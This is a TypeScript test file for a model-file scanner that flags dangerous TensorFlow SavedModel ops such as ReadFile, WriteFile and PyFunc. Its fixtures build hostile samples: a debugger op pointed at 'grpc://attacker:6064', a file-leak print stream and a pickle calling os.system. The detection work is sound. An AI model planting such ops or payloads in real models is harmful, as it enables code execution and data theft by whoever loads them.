import { describe, expect, it } from 'vitest';
import { bufferSource, inspectSource, INSPECT_LIMITS, type Finding } from '../../node/scan/inspect/index.js';
import { isOnnx } from '../../node/scan/inspect/onnx.js';
import { inspectSavedModel, isSavedModel, type SavedModelBounds } from '../../node/scan/inspect/savedmodel.js';
import { PickleWriter, pb, writeOnnx } from '../fixtures/scan/builders.js';
import { TF1_SAVER, TF2_SAVER, tf1Graph, tf2Graph, tfGraph, tfMetaGraph, writeSavedModel, type TfNode } from '../fixtures/scan/tf-builders.js';

const inspect = (bytes: Buffer, limits: Partial<typeof INSPECT_LIMITS> = {}, bounds: Partial<SavedModelBounds> = {}) =>
  inspectSavedModel(bufferSource(bytes), { ...INSPECT_LIMITS, ...limits }, bounds);
const aboveInfo = (fs: Finding[]): Finding[] => fs.filter((f) => f.severity !== 'info');
const ops = (fs: Finding[]) => fs.filter((f) => f.kind === 'dangerous-op').map((f) => [f.severity, f.path]);
const tf2 = (opts: Parameters<typeof tf2Graph>[0] = {}, saver = TF2_SAVER): Buffer => writeSavedModel([tfMetaGraph({ graph: tf2Graph(opts), saver })]);

describe('SavedModel recognition', () => {
  it('claims SavedModels, MetaGraphDefs and frozen GraphDefs', async () => {
    expect(await isSavedModel(bufferSource(tf2()))).toBe(true);
    expect(await isSavedModel(bufferSource(writeSavedModel([tfMetaGraph({ graph: tf1Graph(), saver: TF1_SAVER })])))).toBe(true);
    expect(await isSavedModel(bufferSource(tfMetaGraph({ graph: tf1Graph(), saver: TF1_SAVER })))).toBe(true);
    expect(await isSavedModel(bufferSource(tfGraph([{ name: 'x', op: 'Placeholder' }, { name: 'y', op: 'Relu', inputs: ['x'] }])))).toBe(true);
    // Two meta graphs, and a SavedModel without its schema version.
    const two = writeSavedModel([tfMetaGraph({ graph: tf2Graph(), saver: TF2_SAVER }), tfMetaGraph({ graph: tf1Graph(), tags: ['train'] })]);
    expect(await isSavedModel(bufferSource(two))).toBe(true);
    expect(await isSavedModel(bufferSource(two.subarray(2)))).toBe(true);
    // A GraphDef whose first node has a long name, and one with only a function library.
    expect(await isSavedModel(bufferSource(tfGraph([{ name: `${'scope/'.repeat(40)}kernel`, op: 'VarHandleOp' }])))).toBe(true);
    expect(await isSavedModel(bufferSource(tfGraph([], { __inference_f_1: [{ name: 'r', op: 'Relu' }] })))).toBe(true);
    // Fields out of their usual order: versions before the nodes, a node's op before its name.
    const reordered = Buffer.concat([pb.bytes(4, pb.int(1, 1882)), pb.bytes(1, Buffer.concat([pb.bytes(2, 'ReadFile'), pb.bytes(1, 'r')]))]);
    expect(await isSavedModel(bufferSource(reordered))).toBe(true);
    expect(ops((await inspect(reordered)).findings)).toEqual([['high', 'graph/r']]);
  });

  it('claims no ONNX model, pickle, text or noise, and ONNX claims no SavedModel', async () => {
    const onnx = writeOnnx([], [Buffer.concat([pb.bytes(4, 'Relu')])]);
    expect(await isOnnx(bufferSource(onnx))).toBe(true);
    expect(await isSavedModel(bufferSource(onnx))).toBe(false);
    expect(await isOnnx(bufferSource(tf2()))).toBe(false);
    expect(await isOnnx(bufferSource(tfMetaGraph({ graph: tf1Graph() })))).toBe(false);
    const pickle = new PickleWriter().proto(2).global('os', 'system').stop().bytes();
    for (const b of [pickle, Buffer.from('\nhello world\nthis is text\n'), Buffer.from('{"a": 1}'), Buffer.alloc(0), Buffer.from([8, 1])]) {
      expect(await isSavedModel(bufferSource(b)), JSON.stringify(b.toString('latin1'))).toBe(false);
    }
    let seed = 7;
    for (let i = 0; i < 200; i++) {
      const noise = Buffer.alloc(64 + i, 0).map(() => (seed = (seed * 1103515245 + 12345) % 2 ** 31) & 0xff);
      expect(await isSavedModel(bufferSource(Buffer.from(noise)))).toBe(false);
    }
    // A caffemodel of V1 layers (name 1, layers 2: bottom 2, top 3, name 4, type 5) tiles like a MetaGraphDef but holds no graph.
    const layer = Buffer.concat([pb.bytes(2, 'data'), pb.bytes(3, 'conv1'), pb.bytes(4, 'conv1'), pb.int(5, 4)]);
    expect(await isSavedModel(bufferSource(Buffer.concat([pb.bytes(1, 'CaffeNet'), pb.bytes(2, layer), pb.bytes(2, layer)])))).toBe(false);
    // A SavedModel whose last bytes are cut no longer tiles the file.
    const sm = tf2();
    expect(await isSavedModel(bufferSource(sm.subarray(0, sm.length - 3)))).toBe(false);
  });

  it('is not taken for ONNX or a pickle by inspectSource (format detection is detect.ts\'s)', async () => {
    const r = await inspectSource(bufferSource(tf2()));
    expect(['onnx', 'pickle']).not.toContain(r.format);
  });
});

describe('SavedModel graph inspection', () => {
  it('a TF2 SavedModel with its saver functions (SaveV2, MergeV2Checkpoints, RestoreV2): nothing above info', async () => {
    const r = await inspect(tf2());
    expect(aboveInfo(r.findings)).toEqual([]);
    expect(r.meta).toMatchObject({ root: 'SavedModel', schemaVersion: 1, metaGraphs: 1, graphs: 1, functions: 4, saverOps: 3, tags: [['serve']], tensorflowVersion: '2.15.0' });
    expect(r.meta['ops']).toEqual(expect.arrayContaining(['VarHandleOp', 'MatMul', 'SaveV2', 'RestoreV2', 'MergeV2Checkpoints', 'StatefulPartitionedCall']));
    expect(r.meta['nodes']).toBe(8 + 2 + 6 + 15 + 7);
  });

  it('a TF1 SavedModel with its save/ scope: nothing above info', async () => {
    const r = await inspect(writeSavedModel([tfMetaGraph({ graph: tf1Graph(), saver: TF1_SAVER })]));
    expect(aboveInfo(r.findings)).toEqual([]);
    expect(r.meta).toMatchObject({ graphs: 1, functions: 0, saverOps: 3 });
  });

  it('ReadFile and WriteFile in the serving function are high dangerous-ops, by function and node', async () => {
    const call: TfNode[] = [
      { name: 'ReadFile/filename', op: 'Const', attrs: { value: { tensorBytes: 11 } } },
      { name: 'ReadFile', op: 'ReadFile', inputs: ['ReadFile/filename:output:0'] },
      { name: 'WriteFile', op: 'WriteFile', inputs: ['out', 'ReadFile:contents:0'] },
    ];
    const r = await inspect(tf2({ call }));
    expect(ops(r.findings)).toEqual([['high', '__inference___call___60/ReadFile'], ['high', '__inference___call___60/WriteFile']]);
    expect(r.findings[0]?.detail).toMatch(/^op ReadFile: reads a whole file/);
    expect(r.meta['saverOps']).toBe(3);
  });

  it('PyFunc, EagerPyFunc and PyFuncStateless are critical, with their token', async () => {
    const call: TfNode[] = [
      { name: 'EagerPyFunc', op: 'EagerPyFunc', inputs: ['x'], attrs: { token: { s: 'pyfunc_0' } } },
      { name: 'PyFunc', op: 'PyFunc', inputs: ['x'], attrs: { token: { s: 'pyfunc_1' } } },
    ];
    const r = await inspect(tf2({ call, graphNodes: [{ name: 'np', op: 'PyFuncStateless' }] }));
    expect(ops(r.findings)).toEqual([['critical', 'graph/np'], ['critical', '__inference___call___60/EagerPyFunc'], ['critical', '__inference___call___60/PyFunc']]);
    expect(r.findings.find((f) => f.path?.endsWith('EagerPyFunc'))?.detail).toMatch(/token "pyfunc_0"/);
  });

  it('checkpoint ops outside the saver are reported; so is the saver when other code calls or feeds on it', async () => {
    // SaveV2 in the serving function.
    const inCall = await inspect(tf2({ call: [{ name: 'SaveV2', op: 'SaveV2', inputs: ['/tmp/x'] }] }));
    expect(ops(inCall.findings)).toEqual([['high', '__inference___call___60/SaveV2']]);
    // The serving function calls the saver's traced save function.
    const calls = await inspect(tf2({ call: [{ name: 'save', op: 'StatefulPartitionedCall', attrs: { f: { func: '__inference__traced_save_130' } } }] }));
    expect(ops(calls.findings)).toEqual([['high', '__inference__traced_save_130/SaveV2'], ['high', '__inference__traced_save_130/MergeV2Checkpoints']]);
    expect(calls.findings[0]?.detail).toMatch(/called from outside the saver/);
    // A graph node whose op is the saver's function calls it too.
    const byOp = await inspect(tf2({ graphNodes: [{ name: 'evil', op: '__inference__traced_restore_152', inputs: ['Const'] }] }));
    expect(ops(byOp.findings)).toEqual([['high', '__inference__traced_restore_152/RestoreV2']]);
    // No SaverDef: every checkpoint op is the graph's own.
    const noSaver = await inspect(writeSavedModel([tfMetaGraph({ graph: tf1Graph() })]));
    expect(ops(noSaver.findings).map((o) => o[1])).toEqual(['graph/save/SaveV2', 'graph/save/MergeV2Checkpoints', 'graph/save/RestoreV2']);
    // TF1: a checkpoint op in another scope, and a serving node wired to the saver.
    const other = await inspect(writeSavedModel([tfMetaGraph({ graph: tf1Graph([{ name: 'evil/RestoreV2', op: 'RestoreV2' }]), saver: TF1_SAVER })]));
    expect(ops(other.findings)).toEqual([['high', 'graph/evil/RestoreV2']]);
    const wired = await inspect(writeSavedModel([tfMetaGraph({ graph: tf1Graph([{ name: 'out', op: 'Identity', inputs: ['MatMul', '^save/MergeV2Checkpoints'] }]), saver: TF1_SAVER })]));
    expect(ops(wired.findings)).toHaveLength(3);
    expect(wired.findings[0]?.detail).toMatch(/node "out" outside the saver takes saver node "save\/MergeV2Checkpoints" as an input/);
    // A graph_def given twice is merged by protobuf: the edge in its second piece counts too.
    const twice = Buffer.concat([tfMetaGraph({ graph: tf1Graph(), saver: TF1_SAVER }), pb.bytes(2, tfGraph([{ name: 'out', op: 'Identity', inputs: ['^save/RestoreV2'] }]))]);
    expect(ops((await inspect(writeSavedModel([twice]))).findings)).toHaveLength(3);
  });

  it('judges PrintV2, debugger and table ops by what they do', async () => {
    const call: TfNode[] = [
      { name: 'print', op: 'PrintV2', attrs: { output_stream: { s: 'stderr' } } },
      { name: 'print_file', op: 'PrintV2', attrs: { output_stream: { s: 'file:///tmp/leak' } } },
      { name: 'dbg', op: 'DebugIdentityV2', attrs: { debug_urls: { strings: ['grpc://attacker:6064'] } } },
      { name: 'table_init', op: 'InitializeTableFromTextFileV2', inputs: ['table', 'vocab'] },
      { name: 'proto', op: 'DecodeProtoV2', attrs: { descriptor_source: { s: 'local://' } } },
    ];
    const r = await inspect(tf2({ call }));
    expect(ops(r.findings)).toEqual([
      ['high', '__inference___call___60/print_file'], ['high', '__inference___call___60/dbg'], ['medium', '__inference___call___60/table_init'],
    ]);
    expect(r.findings.map((f) => f.detail).join('\n')).toMatch(/file:\/\/\/tmp\/leak[\s\S]*grpc:\/\/attacker:6064/);
  });

  it('a bare GraphDef and a MetaGraphDef are walked too; a second meta graph says which', async () => {
    const frozen = await inspect(tfGraph([{ name: 'x', op: 'Placeholder' }, { name: 'r', op: 'ReadFile', inputs: ['x'] }]));
    expect(frozen.meta).toMatchObject({ root: 'GraphDef', graphs: 1, nodes: 2 });
    expect(ops(frozen.findings)).toEqual([['high', 'graph/r']]);
    const meta = await inspect(tfMetaGraph({ graph: tf1Graph([{ name: 'w2', op: 'WriteFile' }]), saver: TF1_SAVER }));
    expect(meta.meta).toMatchObject({ root: 'MetaGraphDef', metaGraphs: 1, saverOps: 3 });
    expect(ops(meta.findings)).toEqual([['high', 'graph/w2']]);
    const two = await inspect(writeSavedModel([tfMetaGraph({ graph: tf2Graph(), saver: TF2_SAVER }), tfMetaGraph({ graph: tf1Graph([{ name: 'w2', op: 'WriteFile' }]), tags: ['train'], saver: TF1_SAVER })]));
    expect(two.findings.map((f) => f.detail)).toEqual(['op WriteFile: writes a file at a path the graph computes (tf.io.write_file) (meta graph 1, tags train)']);
  });

  it('a Keras Lambda layer in the object graph\'s metadata is embedded code', async () => {
    const lambda = JSON.stringify({ class_name: 'Lambda', config: { name: 'lambda', function: ['4wEAAAAAAAAA', null, null], function_type: 'lambda' } });
    const dense = JSON.stringify({ class_name: 'Dense', config: { name: 'dense', units: 4 } });
    const userObjects = [{ identifier: '_tf_keras_layer', metadata: dense }, { identifier: '_tf_keras_layer', metadata: lambda }, { identifier: 'trackable_dict_wrapper', metadata: lambda }];
    const r = await inspect(writeSavedModel([tfMetaGraph({ graph: tf2Graph(), saver: TF2_SAVER, userObjects })]));
    expect(r.findings.map((f) => [f.kind, f.path])).toEqual([['embedded-code', 'object_graph_def/nodes[2]']]);
    expect(r.meta['kerasObjects']).toBe(2);
    const big = await inspect(writeSavedModel([tfMetaGraph({ graph: tf2Graph(), saver: TF2_SAVER, userObjects })]), { kerasConfigBytes: 50 });
    expect(big.findings.map((f) => [f.kind, f.severity])).toEqual([['limit', 'high'], ['limit', 'high']]);
  });

  it('truncated or broken bytes are malformed and never clean; no graph reached is not-inspected', async () => {
    const sm = tf2({ call: [{ name: 'ReadFile', op: 'ReadFile' }] });
    for (const cut of [sm.length - 1, Math.floor(sm.length / 2), 40, 3]) {
      const r = await inspect(sm.subarray(0, cut));
      expect(r.findings.some((f) => f.kind === 'malformed' && f.severity === 'high'), `cut at ${cut}`).toBe(true);
    }
    const wire = await inspect(Buffer.from([0x08, 0x01, 0x12, 0x02, 0x0f, 0x00]));
    expect(wire.findings.map((f) => f.kind)).toEqual(['malformed', 'not-inspected']);
    const empty = await inspect(writeSavedModel([]));
    expect(empty.findings).toEqual([expect.objectContaining({ kind: 'not-inspected', severity: 'high' })]);
    const noGraph = await inspect(writeSavedModel([tfMetaGraph({ saver: TF2_SAVER })]));
    expect(noGraph.findings).toEqual([expect.objectContaining({ kind: 'not-inspected', detail: expect.stringMatching(/no graph_def/) })]);
    const garbage = await inspect(Buffer.from('not a protobuf at all, just some words'));
    expect(aboveInfo(garbage.findings).length).toBeGreaterThan(0);
  });

  it('stops at its bounds with a high limit finding, reporting what it saw before', async () => {
    const sm = tf2({ call: [{ name: 'ReadFile', op: 'ReadFile' }] });
    const bytes = await inspect(sm, { savedModelBytes: 100 });
    expect(bytes.findings.map((f) => [f.kind, f.severity])).toContainEqual(['limit', 'high']);
    expect(bytes.findings.find((f) => f.kind === 'limit')?.detail).toMatch(/only the first 100 were walked/);
    const fields = await inspect(sm, {}, { fields: 50 });
    expect(fields.findings.find((f) => f.kind === 'limit')?.detail).toMatch(/more than 50 protobuf fields/);
    let attr: Buffer = pb.bytes(1, 'f');
    for (let i = 0; i < 40; i++) attr = pb.bytes(2, pb.bytes(10, pb.bytes(2, Buffer.concat([pb.bytes(1, 'k'), attr])))); // entry > value > func > entry…
    const deep = Buffer.concat([pb.bytes(1, Buffer.concat([pb.bytes(1, 'n'), pb.bytes(2, 'PartitionedCall'), pb.bytes(5, Buffer.concat([pb.bytes(1, 'f'), attr]))]))]);
    const r = await inspect(deep);
    expect(r.findings.map((f) => f.kind)).toEqual(['limit']);
    expect(r.findings[0]?.detail).toMatch(/nested deeper than 64/);
    const many = await inspect(tf2({ call: Array.from({ length: 30 }, (_, i) => ({ name: `r${i}`, op: 'ReadFile' })) }), {}, { findings: 10 });
    expect(many.findings).toHaveLength(11);
    expect(many.findings[10]).toMatchObject({ severity: 'high', detail: 'and 20 more ops that run Python or reach files or the network' });
  });
});
